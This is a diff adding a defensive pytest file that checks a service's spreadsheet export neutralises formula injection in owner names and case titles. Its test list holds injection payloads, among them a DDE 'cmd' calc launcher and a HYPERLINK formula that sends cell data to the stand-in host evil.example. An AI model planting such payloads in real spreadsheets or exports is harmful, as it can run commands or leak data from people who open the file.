@@ -1,0 +1,43 @@
+"""Spreadsheet formula injection: user text that starts like a formula is exported as text."""
+
+from __future__ import annotations
+
+from io import BytesIO
+
+import openpyxl
+import pytest
+
+from service.exports import safe_cell
+from tests.service.test_money import Flow
+
+HOSTILE_OWNERS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-2+3",
+                  "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE_OWNERS)
+def test_safe_cell_turns_formula_starts_into_text(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["张三", "1栋", "a=b", " =1", "", None, 12, 3.5])
+def test_safe_cell_leaves_everything_else_alone(value):
+    assert safe_cell(value) == value
+
+
+def test_the_apportionment_export_writes_hostile_owner_names_as_text(world):
+    lines = ["楼栋,单元,房号,建筑面积,业主,分户账余额,首次交存额"]
+    lines += [f'1栋,3单元,{301 + i},80,"{o.replace(chr(34), chr(34) * 2)}",10000,10000' for i, o in enumerate(HOSTILE_OWNERS)]
+    r = world.client.post(f"/api/v1/communities/{world.ids['community_a']}/households",
+                          content="\r\n".join(lines).encode(), headers=world.h("so", **{"Content-Type": "text/csv"}))
+    assert r.status_code == 201, r.text
+    flow = Flow(world)
+    case = flow.open(title="=1+1 消防管网")
+    flow.advance(case, "advance_payment", approved="80000.00")
+    r = world.client.get(f"/api/v1/cases/{case}/apportionment.xlsx", headers=world.h("fc"))
+    assert r.status_code == 200
+    ws = openpyxl.load_workbook(BytesIO(r.content)).active
+    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == [f"F{ws.max_row}"]  # only the export's own total
+    owners = [row[3] for row in ws.iter_rows(min_row=4, max_row=ws.max_row - 1, values_only=True)]
+    assert sorted(o for o in owners if o) == sorted("'" + o.strip() for o in HOSTILE_OWNERS)  # the import strips
+    assert not str(ws["A1"].value).startswith("=")
